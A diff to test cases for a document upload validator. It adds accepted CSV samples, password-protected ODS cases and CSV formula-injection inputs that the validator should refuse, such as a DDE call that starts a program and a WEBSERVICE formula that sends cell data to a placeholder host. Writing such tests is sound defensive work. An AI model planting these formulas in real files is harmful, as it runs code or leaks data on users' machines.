@@ -111,7 +111,8 @@ DOCUMENTS = [
     good("CSV in UTF-8", "a.csv", lambda: "Año,Acción\n2026,-5\n".encode(), CSV),
     good("CSV in UTF-8 with a mark", "a.csv", lambda: "Año;Acción\r\n- ya (hecho);+52 55\r\n".encode("utf-8-sig"), CSV),
     good("CSV of Excel in Mexico", "a.csv", lambda: "Año;Acción “única”\r\n".encode("cp1252"), CSV),
-    good("CSV with zeros kept", "a.csv", lambda: b'="001",="002"\n', CSV),
+    good("CSV with zeros kept", "a.csv", lambda: b'="001",="002"\n"=""003"""\n', CSV),
+    good("CSV of signs", "a.csv", lambda: b"+|,@,-|-|\n" * 20_000, CSV),
 ]
 
 
@@ -149,6 +150,12 @@ REFUSED = [
     *bad(
         Reason.LOCKED,
         ("DOCX behind a password", "a.docx", lambda: docs.LOCKED),
+        (
+            "ODS behind a password",
+            "a.ods",
+            lambda: docs.ods({"META-INF/manifest.xml": b"<m:file-entry><m:encryption-data/></m:file-entry>"}),
+        ),
+        ("ODS behind a password, newly", "a.ods", lambda: docs.ods({"encrypted-package": b"\x8f" * 99})),
         ("encrypted zip", "a.xlsx", lambda: docs.encrypted(docs.xlsx())),
     ),
     *bad(
@@ -278,6 +285,9 @@ REFUSED = [
         Reason.FORMULAS,
         ("table that starts a program", "a.csv", lambda: b"a,b\n1,=cmd|'/C calc'!A0\n"),
         ("table that asks a server", "a.csv", lambda: b'a;b\r\n"=WEBSERVICE(""http://e.example/""&A1)";2\r\n'),
+        ("table that counts before it starts one", "a.csv", lambda: b"a,-2+3+cmd|' /C calc'!A0\n"),
+        ("formula behind kept zeros", "a.csv", lambda: b'="001"&WEBSERVICE("http://e.example")\n'),
+        ("formula after an old line end", "a.csv", lambda: b"a\r=1+1\r"),
         ("table with @", "a.csv", lambda: b"a\n@SUM(1+1)\n"),
     ),
 ]
